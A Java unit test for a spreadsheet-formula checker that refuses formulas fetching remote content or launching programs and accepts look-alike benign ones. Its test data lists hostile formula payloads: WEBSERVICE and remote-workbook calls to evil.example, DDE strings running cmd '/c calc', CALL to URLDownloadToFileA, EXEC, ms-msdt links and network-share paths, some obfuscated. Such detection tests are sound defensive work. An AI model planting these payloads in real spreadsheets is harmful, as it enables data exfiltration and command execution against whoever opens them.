package org.sluis.inspection.parsing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** In a formula only calls count: not what stands in texts, in names of sheets or beside a name. */
class FormulasTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '~',
            value = {
                "WEBSERVICE(\"http://evil.example\"); FETCHING_FORMULA; WEBSERVICE",
                "_xlfn.WEBSERVICE(A1); FETCHING_FORMULA; WEBSERVICE",
                "1+_xlfn._xlws.webservice\t(A1); FETCHING_FORMULA; WEBSERVICE",
                "of:=COM.MICROSOFT.WEBSERVICE([.A1]); FETCHING_FORMULA; WEBSERVICE",
                "_xlfn.IMAGE(\"https://evil.example/p.png\"); FETCHING_FORMULA; IMAGE",
                "MAP(A1:A2,_xleta.WEBSERVICE); FETCHING_FORMULA; WEBSERVICE",
                "'a'!A1+IF(A1=\"'\",WEBSERVICE(A1),\"'\"); FETCHING_FORMULA; WEBSERVICE",
                "SUM(Table1[['#x]])+RTD(\"a\",,\"b\"); FETCHING_FORMULA; RTD",
                "CALL(\"urlmon\",\"URLDownloadToFileA\"); FETCHING_FORMULA; CALL",
                "REGISTER.ID(\"a\",\"b\"); FETCHING_FORMULA; REGISTER.ID",
                "EXEC(\"calc\"); FETCHING_FORMULA; EXEC",
                "DDE(\"soffice\",\"a\",\"b\"); DDE; DDE(\"soffice\",\"a\",\"b\")",
                "cmd|'/c calc'!A1; DDE; cmd",
                "'cmd'|'/c calc'!A1; DDE; cmd",
                "'cmd|/c calc'!A1; DDE; cmd|/c calc",
                "HYPERLINK(\"\\\\\"&\"server\\x\",\"x\"); NETWORK_SHARE; \\\\server\\x",
                "HYPERLINK(\"ms-msdt:/id\"); UNSAFE_LINK; ms-msdt:/id",
                "HYPERLINK(\"C:\\x.bat\"); UNSAFE_LINK; C:\\x.bat",
                "WEBSERVICE(CHAR(104)&A1); FETCHING_FORMULA; WEBSERVICE",
                "IMAGE(A1); FETCHING_FORMULA; IMAGE",
                "'\\\\server\\share\\[b.xlsx]Sheet1'!A1; NETWORK_SHARE; \\\\server\\share\\[b.xlsx]Sheet1",
                "'https://evil.example/[b.xlsx]Sheet1'!A1; REMOTE_WORKBOOK; https://evil.example/[b.xlsx]Sheet1",
                "INDIRECT(\"'http://evil.example/[x.xlsx]S'!A1\"); FETCHING_FORMULA; http://evil.example",
                "INDIRECT((\"'ht\"&\"tp://evil.example/[x.xlsx]S'!A1\")); FETCHING_FORMULA; http://evil.example",
                "INDIRECT(CONCATENATE(\"'\",\"http:\",\"//evil.example/i.ods'#$S.A1\")); FETCHING_FORMULA; http:",
                "of:=INDIRECT(\"'\"&\"https://evil.example/i.ods'\"&\"#$S.A1\"); FETCHING_FORMULA; https://evil.example",
                "INDIRECT(\"'http:\"&A1&\"'!B2\"); FETCHING_FORMULA; http:",
                "SUM(INDIRECT(\"'\\\\server\\[x.xlsx]S'!A1\")); NETWORK_SHARE; \\\\server",
                "INDIRECT(\"[\\\\server\\x.xlsx]S!A1\"); NETWORK_SHARE; \\\\server",
                "INDIRECT(\"'smb://server/x.ods'#$S.A1\"); NETWORK_SHARE; smb://server",
                "HYPERLINK((\"\\\\server\\x.exe\"),\"a\"); NETWORK_SHARE; \\\\server",
                "HYPERLINK(\"\"&(\"\\\\server\\s\"),1); NETWORK_SHARE; \\\\server",
                "HYPERLINK(CONCATENATE(\"\\\",\"\\server\\s\"),1); NETWORK_SHARE; \\\\server",
                "HYPERLINK(IF(1,\"https://example.org/\",\"\\\\server\\s\"),1); NETWORK_SHARE; \\\\server",
                "HYPERLINK(IF(A1,\"ms-msdt:/id\",\"\")); UNSAFE_LINK; ms-msdt:/id",
                "HYPERLINK(\"[\\\\server\\x.xlsx]S!A1\"); NETWORK_SHARE; \\\\server",
                "_xlfn.IMPORTCSV(\"https://evil.example\"); FETCHING_FORMULA; IMPORTCSV",
                "_xlfn._xlws.IMPORTTEXT(A1); FETCHING_FORMULA; IMPORTTEXT",
                "IMPORTRANGE(A1,B1); FETCHING_FORMULA; IMPORTRANGE",
                "_xlfn._xlws.PY(1,1); FETCHING_FORMULA; PY",
                "_xlfn.COPILOT(A1); FETCHING_FORMULA; COPILOT",
                "EVALUATE(\"WEBSERVICE(A1)\"); FETCHING_FORMULA; EVALUATE",
                "_xlfn.MAP(A1,_xlfn.IMAGE); FETCHING_FORMULA; IMAGE",
                "_xlfn.MAP(A1,_xlfn.WEBSERVICE); FETCHING_FORMULA; WEBSERVICE",
                "'cmd | calc'|x; DDE; cmd | calc",
                "\"unclosed&WEBSERVICE(A1); FETCHING_FORMULA; \"unclosed&WEBSERVICE(A1)"
            })
    void refusesCallsThatFetchOrStart(String formula, Rule rule, String subject) {
        Objection objection = catchThrowableOfType(Refusal.class, () -> Formulas.check(formula))
                .objection();
        assertThat(objection.rule()).isEqualTo(rule);
        assertThat(objection.subject()).get().asString().contains(subject);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM('Image (2)'!A1:A3)",
                "'Webservice (a)'!$A$1",
                "\"WEBSERVICE(\"&A1&\")\"",
                "\"say \"\"IMAGE(1)\"\"\"",
                "'It''s IMAGE(1)'!A1",
                "image+webservice",
                "SUM(Table1[Image (2)])",
                "SUM(Table1[[#This Row],[Image (2)]])",
                "[1]Sheet1!A1",
                "'C:\\data\\[book.xlsx]Sheet1'!A1",
                "{1;2|3;4}",
                "HYPERLINK(\"https://example.org\",\"x\")",
                "HYPERLINK(\"#\"&A1,\"x\")",
                "HYPERLINK(A1)",
                "HYPERLINK(\"https://example.org/\"&A1&\"/\"&B1&\"/\"&C1,\"Note: x\")",
                "HYPERLINK(\"https:\"&\"//example.org/\"&TEXT(A1,\"hh:mm\"))",
                "HYPERLINK(\"https://example.org/\"&A1&\"/setup.exe\")",
                "INDIRECT(A1)",
                "INDIRECT(CHAR(39)&A1&CHAR(39)&\"!B1\")",
                "INDIRECT(A1&\"!\"&B1)",
                "HYPERLINK(SUBSTITUTE(A1,\"\\\",\"/\"))",
                "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
                "HYPERLINK(CONCATENATE(\"#\",A1,\"!A1\"),IF(1,\"a\",\"b\"))",
                "INDIRECT(\"'\"&A1&\"'!B\"&ROW())",
                "INDIRECT(\"A1:A\"&B1)",
                "INDIRECT(\"Sheet1!A1:B2\",TRUE)",
                "of:=INDIRECT(\"$'Image (2)'.A1\")",
                "'R&D | Image(2)'!A4",
                "'[1]R & D | x'!A4",
                "_xlfn.STOCKHISTORY(\"X\",1)+_xlfn.TRANSLATE(A1,\"en\")",
                "FILTERXML(A1,\"//a\")",
                "IFERROR(__xludf.DUMMYFUNCTION(\"IMPORTRANGE(\"\"https://docs.google.com/x\"\",\"\"A1\"\")\"),\"x\")",
                "of:=SUM([.A1:.A3];[$'Image (2)'.B1])",
                "callback(1)",
                "MYIMAGE(1)"
            })
    void textsAndNamesAreNoCalls(String formula) {
        assertThatCode(() -> Formulas.check(formula)).doesNotThrowAnyException();
    }
}
